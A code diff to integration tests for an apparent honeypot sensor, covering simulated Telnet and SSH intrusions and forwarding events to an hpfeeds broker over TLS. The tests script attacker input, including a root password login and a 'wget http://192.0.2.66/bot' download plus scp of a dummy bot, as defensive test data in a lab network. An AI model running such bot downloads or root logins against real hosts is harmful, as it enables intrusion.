@@ -9,6 +9,7 @@ use serde_json::Value;
 use crate::lab::{Lab, state_dir};
 use crate::net::{Ns, Running, free_port, sh, wait_for};
 use crate::ssh_recorded::OPTIONS;
+use crate::typist::{HANG_UP, typing};
 
 /// A host with a web site and Telnet, and these sinks.
 fn topology(sinks: &str) -> String {
@@ -246,8 +247,8 @@ fn files_are_what_their_readers_expect() {
     let mut lab = Lab::up(&topology(sinks));
     lab.attacker.addr("eth0", "192.0.2.2/24");
     attack(&lab, 3);
-    let telnet = "(sleep 1; printf 'root\\r\\n'; sleep 1; printf 'hunter2\\r\\n'; sleep 1) | nc -w 3 192.0.2.10 23";
-    lab.attacker.run(&["sh", "-c", telnet]);
+    let lines = [("login:", "root"), ("assword:", "hunter2"), ("incorrect", HANG_UP)];
+    typing(&lines, &["telnet", "192.0.2.10"], |words| lab.attacker.sh(words));
     lab.wait_told("service.login", "192.0.2.10", &["hunter2"]);
     lab.wait_event("tcp.close", |event| event["dst"]["port"] == 23);
     let metrics = String::from_utf8(lab.command(&["status", "--metrics"]).stdout).unwrap();
@@ -313,10 +314,13 @@ fn an_intrusion_by_ssh_reads_as_cowrie_has_it() {
     let output = ssh("second", "root@192.0.2.10 'uname -a'");
     assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
     // Typed, with a mistake that is mended.
-    let typed = "(sleep 1; printf 'echx\\177o $((6*7))\\r'; sleep 1; printf 'wget http://192.0.2.66/bot\\r'; sleep 1; printf 'exit\\r'; sleep 1)";
-    let output =
-        from.run(&["sh", "-c", &format!("{typed} | sshpass -p second ssh -tt {} root@192.0.2.10", OPTIONS.join(" "))]);
-    assert!(String::from_utf8_lossy(&output.stdout).contains("42"), "{output:?}");
+    let lines = [
+        ("assword:", "second"),
+        ("# ", "echx\x7fo $((6*7))"),
+        (r"42\r\n.*# ", "wget http://192.0.2.66/bot"),
+        ("# ", "exit"),
+    ];
+    typing(&lines, &[&["ssh"][..], &OPTIONS, &["root@192.0.2.10"]].concat(), |words| from.sh(words));
     let bot = lab.file("bot", "#!/bin/sh\n:\n");
     let scp = format!("sshpass -p second scp -O {} {} root@192.0.2.10:/tmp/bot", OPTIONS.join(" "), bot.display());
     from.sh(&["sh", "-c", &scp]);
@@ -372,14 +376,20 @@ fn hpfeeds() -> PathBuf {
 }
 
 const BROKER: &str = r#"
-import asyncio, sys
+import asyncio, asyncio.sslproto, sys
 from hpfeeds.broker.server import Server
 from hpfeeds.broker.auth.memory import Authenticator
 
+# It counts what it sends within TLS in a part of asyncio that is called otherwise since Python 3.11.
+if not hasattr(asyncio.sslproto, "_SSLPipe"):
+    asyncio.sslproto.SSLProtocol._sslpipe = property(lambda protocol: protocol)
+
 async def main():
     name = lambda secret, pub, sub: {"owner": "x", "secret": secret, "pubchans": pub, "subchans": sub}
-    server = Server(Authenticator({"sensor": name("s3cr3t", ["hw"], []), "reader": name("r", [], ["hw"])}))
+    names = {"sensor": name("s3cr3t", ["hw"], []), "within": name("t1s", ["hw"], []), "reader": name("r", [], ["hw"])}
+    server = Server(Authenticator(names))
     server.add_endpoint_legacy("127.0.0.1:" + sys.argv[1])
+    server.add_endpoint_legacy("127.0.0.1:" + sys.argv[2], tlscert=sys.argv[3], tlskey=sys.argv[4])
     await server.serve_forever()
 
 asyncio.run(main())
@@ -403,41 +413,65 @@ asyncio.run(main())
 fn a_broker_of_hpfeeds_passes_on_what_was_published() {
     let mut lab = Lab::shared();
     let packages = hpfeeds();
-    let port = free_port().to_string();
+    let (port, within) = (free_port().to_string(), free_port().to_string());
+    certificates(&lab, &["broker.example"]);
+    let pki = |name: &str| lab.path("pki").join(name).display().to_string();
+    let (certificate, key) = (pki("broker.example.pem"), pki("broker.example.key"));
     let (broker, reader) = (lab.file("broker.py", BROKER), lab.file("reader.py", READER));
     let python = |lab: &Lab, script: &Path| {
-        let mut command: Command = lab.wire.command(&["/usr/bin/python3", script.to_str().unwrap(), &port]);
+        let script = ["/usr/bin/python3", script.to_str().unwrap(), &port, &within, &certificate, &key];
+        let mut command: Command = lab.wire.command(&script);
         command.env("PYTHONPATH", &packages);
         Running::start(&mut command)
     };
     let _broker = python(&lab, &broker);
-    let listens = format!("sport = :{port}");
-    wait_for("the broker", || lab.wire.sh(&["ss", "-Hltn", &listens]).contains(&port).then_some(()));
+    for port in [&port, &within] {
+        let listens = format!("sport = :{port}");
+        wait_for("the broker", || lab.wire.sh(&["ss", "-Hltn", &listens]).contains(port).then_some(()));
+    }
     let mut subscriber = python(&lab, &reader);
     subscriber.wait_line("subscribed");
     let (secret, wrong) = (lab.file("secret", "s3cr3t\n"), lab.file("wrong", "guess\n"));
     let to = format!("to: \"hpfeeds://127.0.0.1:{port}\", ident: sensor, channel: hw");
+    let tls = format!(
+        "to: \"hpfeeds+tls://127.0.0.1:{within}\", ident: within, channel: hw, secret: {}, ca: {}",
+        lab.file("within", "t1s\n").display(),
+        pki("ca.pem")
+    );
     let sinks = format!(
-        "  feed: {{format: ndjson, {to}, secret: {}}}\n  stranger: {{format: ndjson, {to}, secret: {}}}\n",
+        "  feed: {{format: ndjson, {to}, secret: {}}}\n  stranger: {{format: ndjson, {to}, secret: {}}}\n  \
+           within: {{format: ndjson, {tls}, server_name: broker.example}}\n  \
+           astray: {{format: ndjson, {tls}, server_name: another.example}}\n",
         secret.display(),
         wrong.display()
     );
     lab.start(&topology(&sinks));
     lab.attacker.addr("eth0", "192.0.2.2/24");
     let newest = attack(&lab, 3);
-    let line = subscriber.wait_line(&format!("\"seq\":{newest},"));
-    let payload = line.strip_prefix("sensor hw ").unwrap();
-    assert_eq!(serde_json::from_str::<Value>(payload).unwrap()["event"], "service.request");
-    let told: Vec<u64> = subscriber
-        .said()
-        .iter()
-        .filter_map(|line| serde_json::from_str::<Value>(line.strip_prefix("sensor hw ")?).ok()?["seq"].as_u64())
-        .collect();
-    assert_eq!(told, (1..=newest).collect::<Vec<_>>());
-    let refused =
-        lab.wait_event("sink.state", |event| event["reason"].as_str().unwrap().starts_with("sink stranger: "));
-    assert!(refused["reason"].as_str().unwrap().contains("the broker says"), "{refused}");
+    for sink in ["sensor", "within"] {
+        let publication = |line: &String| {
+            let payload = line.strip_prefix(sink)?.strip_prefix(" hw ")?;
+            serde_json::from_str::<Value>(payload).ok()
+        };
+        let told = loop {
+            let told: Vec<Value> = subscriber.said().iter().filter_map(publication).collect();
+            if told.iter().any(|record| record["seq"] == newest) {
+                break told;
+            }
+            subscriber.wait_line(&format!("{sink} hw "));
+        };
+        let told: Vec<(u64, &Value)> =
+            told.iter().map(|record| (record["seq"].as_u64().unwrap(), &record["event"])).collect();
+        let (numbers, events): (Vec<u64>, Vec<&Value>) = told.into_iter().filter(|(seq, _)| *seq <= newest).unzip();
+        assert_eq!(numbers, (1..=newest).collect::<Vec<_>>(), "{sink}");
+        assert_eq!(*events[newest as usize - 1], "service.request", "{sink}");
+    }
+    for (sink, why) in [("stranger", "the broker says"), ("astray", "certificate")] {
+        let start = format!("sink {sink}: ");
+        let refused = lab.wait_event("sink.state", |event| event["reason"].as_str().unwrap().starts_with(&start));
+        assert!(refused["reason"].as_str().unwrap().contains(why), "{refused}");
+    }
     // What is shared with the broker is nobody else's.
     let status = lab.json(&["status"]).to_string();
-    assert!(!status.contains("s3cr3t"), "{status}");
+    assert!(!status.contains("s3cr3t") && !status.contains("t1s"), "{status}");
 }
